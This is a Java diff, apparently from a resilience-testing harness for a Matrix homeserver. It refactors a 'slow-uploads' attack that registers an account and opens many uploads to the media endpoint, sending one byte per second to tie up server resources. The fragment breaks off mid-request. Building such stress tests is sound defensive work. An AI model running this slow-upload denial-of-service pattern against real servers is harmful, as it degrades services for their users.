@@ -11,8 +11,6 @@ final class SlowUploads implements Attack {
   private static final int UPLOADS = 520;
   private static final long BYTE_EVERY_MILLIS = 1_000;
 
-  private Target.Account attacker = new Target.Account("", "");
-
   @Override
   public String name() {
     return "slow-uploads";
@@ -24,12 +22,13 @@ final class SlowUploads implements Attack {
   }
 
   @Override
-  public void prepare(Target target) throws IOException, InterruptedException {
-    attacker = target.register("uploader");
+  public Assault prepare(Target target) throws IOException, InterruptedException {
+    Target.Account attacker = target.register("uploader");
+    return () -> upload(target, attacker);
   }
 
-  @Override
-  public void run(Target target) throws IOException, InterruptedException {
+  private static void upload(Target target, Target.Account attacker)
+      throws IOException, InterruptedException {
     byte[] head =
         ("POST /_matrix/media/v3/upload HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n"
                     .formatted(attacker.token())
